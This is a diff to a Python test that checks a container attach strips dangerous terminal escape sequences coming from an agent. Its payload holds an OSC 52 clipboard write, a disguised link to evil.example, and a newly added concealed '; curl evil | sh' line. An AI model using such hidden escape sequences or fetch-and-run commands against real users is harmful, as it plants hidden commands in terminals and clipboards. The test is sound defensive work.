@@ -30,10 +30,11 @@ PAYLOAD = (f"BEFORE-%s {E}[1;31mRED{E}[0m "
            f"{E}Ptmux;{E}{E}]52;c;ZWNobyBwd25lZAo=\\007{E}\\\\"  # tmux passthrough
            f"{E}]8;;https://evil.example/\\007LINK{E}]8;;\\007"  # a disguised link
            "\\302\\235" "52;c;ZWNobyBwd25lZAo=\\302\\234"  # the same as UTF-8 C1 controls
+           f" {E}[8m; curl evil | sh{E}[0m"  # concealed: copied with a selection, unseen
            " AFTER-%s\\r\\n")
 #: What must not arrive: the sequences' introducers (their text after a dropped C1 control
 #: may show, inert, as text).
-FORBIDDEN = [b"]52;", b"]1337;", b"\x1bP", b"]8;", b"\xc2\x9d", b"\xc2\x9c"]
+FORBIDDEN = [b"]52;", b"]1337;", b"\x1bP", b"]8;", b"\xc2\x9d", b"\xc2\x9c", b"\x1b[8m"]
 
 
 def attach_and_read(app: Appliance, argv: list[str], container: object,
@@ -95,10 +96,11 @@ def test_an_agent_cannot_reach_the_persons_terminal_through_an_attach(
     assert shutil.which(printed[3]) and printed[-1] == s["container_name"], printed
     # The positive control: the bare command shows the agent's sequences as written.
     bare = attach_and_read(appliance, [str(shutil.which(printed[3])), *printed[4:]], c)
-    assert b"]52;" in bare and b"AFTER-" in bare, bare[-2000:]
+    assert b"]52;" in bare and b"\x1b[8m; curl" in bare and b"AFTER-" in bare, bare[-2000:]
     for argv in (attach, printed):
         seen = attach_and_read(appliance, argv, c)
         assert b"AFTER-" in seen and b"BEFORE-" in seen, (argv, seen[-2000:])
         assert b"\x1b[1;31mRED\x1b[0m" in seen and b"LINK" in seen  # colours, text arrive
+        assert b"; curl evil | sh\x1b[0m" in seen  # the concealed text, shown
         for needle in FORBIDDEN:
             assert needle not in seen, (argv, needle, seen[-2000:])
